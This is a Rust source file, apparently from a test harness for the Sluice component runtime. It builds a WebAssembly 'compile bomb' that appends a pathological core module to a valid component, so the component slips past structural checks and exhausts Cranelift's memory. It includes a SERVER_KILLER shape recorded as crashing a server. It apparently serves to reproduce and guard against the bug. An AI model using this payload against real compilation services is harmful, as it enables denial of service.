//! The compile bomb: takes a real Sluice component and appends a core module holding
//! one pathological function, so the result still passes Sluice's structural checks
//! (its world, exports and imports are the original's) and reaches the compiler,
//! which compiles every core module of a component, instantiated or not.
//!
//! The function declares `locals` i32 locals, then runs `branches` `if`s, each
//! assigning one local (round robin), and finally adds every local together. Every
//! local is then live across every branch, and each `if` merges a new value of one
//! of them: Cranelift's SSA construction and register allocation grow with locals x
//! branches. At 10,000 locals and 60,000 branches (about 750 KB) Cranelift asks for
//! tens of gigabytes after minutes; a few hundred of each compile in milliseconds.

use wasm_encoder::{
    BlockType, CodeSection, ComponentSection as _, Encode as _, Function, FunctionSection, Module,
    ModuleSection, TypeSection, ValType,
};

/// The size of the pathological function.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Shape {
    /// i32 locals, all live until the end.
    pub locals: u32,
    /// `if`s, each assigning one local.
    pub branches: u32,
}

impl Shape {
    /// The shape that aborted `sluice serve` after two minutes (52 GB asked for).
    pub const SERVER_KILLER: Shape = Shape {
        locals: 10_000,
        branches: 60_000,
    };

    /// Compiles in well under a second, in tens of megabytes.
    pub const SMALL: Shape = Shape {
        locals: 100,
        branches: 300,
    };
}

/// The core module holding the pathological function `(func (param i32) (result i32))`.
pub fn core_module(shape: Shape) -> Vec<u8> {
    build(shape).finish()
}

fn build(shape: Shape) -> Module {
    let mut types = TypeSection::new();
    types.ty().function([ValType::I32], [ValType::I32]);
    let mut functions = FunctionSection::new();
    functions.function(0);

    let locals = shape.locals.max(1);
    // Local 0 is the parameter; locals 1..=locals are the declared ones.
    let mut body = Function::new([(locals, ValType::I32)]);
    {
        let mut code = body.instructions();
        for branch in 0..shape.branches {
            let local = 1 + branch % locals;
            code.local_get(0)
                .if_(BlockType::Empty)
                .local_get(local)
                .i32_const(i32::try_from(branch).unwrap_or(i32::MAX))
                .i32_add()
                .local_set(local)
                .end();
        }
        code.local_get(0);
        for local in 1..=locals {
            code.local_get(local).i32_add();
        }
        code.end();
    }
    let mut code = CodeSection::new();
    code.function(&body);

    let mut module = Module::new();
    module.section(&types).section(&functions).section(&code);
    module
}

/// `component` (a Sluice component's bytes) with the bomb appended as a core module
/// the component defines and never instantiates.
pub fn arm(component: &[u8], shape: Shape) -> Vec<u8> {
    let module = build(shape);
    let section = ModuleSection(&module);
    let mut armed = component.to_vec();
    armed.push(section.id());
    section.encode(&mut armed);
    armed
}
